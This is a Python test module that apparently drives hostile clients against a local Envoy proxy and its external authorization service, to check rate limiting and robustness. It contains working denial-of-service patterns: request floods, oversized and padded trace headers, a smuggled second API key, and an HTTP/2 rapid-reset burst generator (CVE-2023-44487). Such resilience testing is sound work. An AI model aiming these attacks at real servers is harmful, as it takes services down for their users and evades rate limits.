"""Hostile clients of Envoy: what they send reaches extauth as Envoy's calls."""

import asyncio
import random
import time
from collections.abc import Awaitable, Callable

from adversary.wire import HOSTILE_KEY, OPEN_KEY, Connection, Target, http1
from extauth.transport.h2 import frames
from extauth.transport.h2.frames import END_HEADERS, END_STREAM, HEADERS, PREFACE, ErrorCode, frame
from extauth.transport.h2.grpc_framing import literal
from tests.support.h2_peer import Peer

BURST = 480  # streams opened and reset on a fresh connection


async def flood(target: Target) -> None:
    """Many requests over HTTP/1.1."""
    await http1(target, at_once=64)


def tracestate(size: int) -> Callable[[Target], Awaitable[None]]:
    """A `tracestate` that Envoy's tracing passes on with each call."""

    async def run(target: Target) -> None:
        trace = b"00-%032x-%016x-01" % (random.getrandbits(128), random.getrandbits(64))
        await http1(target, b"traceparent: " + trace + b"\r\ntracestate: a=" + b"x" * size + b"\r\n")

    return run


async def white_space(target: Target) -> None:
    """A `tracestate` with white space at its ends, which HTTP/2 alone carries."""
    trace = f"00-{random.getrandbits(128):032x}-{random.getrandbits(64):016x}-01"
    fields: tuple[tuple[str, str], ...] = ((":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "x"))
    fields += (("x-api-key", HOSTILE_KEY),)
    fields += (("traceparent", trace), ("tracestate", " a=b "))
    block = b"".join(literal(name.encode(), value.encode()) for name, value in fields)

    async def ask() -> None:
        while not target.over():
            peer = Peer(*await asyncio.open_connection("127.0.0.1", target.edge))
            peer.send(PREFACE + frames.settings({}))
            for stream in range(1, 201, 2):
                peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
                (answer,) = await peer.answered(stream)
                target.sent += 1
                target.answered += 1
                target.passed += answer.headers.get(":status") != "429"
                if target.over():
                    break
            await peer.close()

    await asyncio.gather(*(ask() for _ in range(4)))


async def many_headers(target: Target) -> None:
    """As many headers as Envoy lets through."""
    await http1(target, b"".join(b"x-%d: %s\r\n" % (i, b"y" * 500) for i in range(80)))


async def two_keys(target: Target) -> None:
    """A second API key, of a caller with room, behind the one that is used up."""
    await http1(target, f"x-api-key: {OPEN_KEY}\r\n".encode())


async def long_path(target: Target) -> None:
    """A path that two descriptors quote, so that the call is larger than the request."""
    await http1(target, path="/" + "p" * 32_759)


def resets(bursts_per_s: int) -> Callable[[Target], Awaitable[None]]:
    """Bursts of requests that are reset at once, each on a fresh connection to Envoy (CVE-2023-44487)."""

    async def run(target: Target) -> None:
        fields = (
            (":method", "GET"),
            (":scheme", "http"),
            (":path", "/"),
            (":authority", "x"),
            ("x-api-key", HOSTILE_KEY),
        )
        block = b"".join(literal(name.encode(), value.encode()) for name, value in fields)
        streams = range(1, 2 * BURST, 2)
        burst = b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, s, block) + frames.rst_stream(s, ErrorCode.CANCEL) for s in streams
        )
        begin = time.monotonic()
        open_connections: list[Connection] = []
        for number in range(int(target.seconds * bursts_per_s)):
            await asyncio.sleep(max(begin + number / bursts_per_s - time.monotonic(), 0))
            if target.over():
                break
            try:
                connection = await Connection.to(target.edge)
                await connection.send(burst)
                open_connections.append(connection)
                target.sent += BURST
            except (OSError, TimeoutError):
                target.errors += 1
            while len(open_connections) > 50:
                await open_connections.pop(0).close()
        for connection in open_connections:
            await connection.close()

    return run
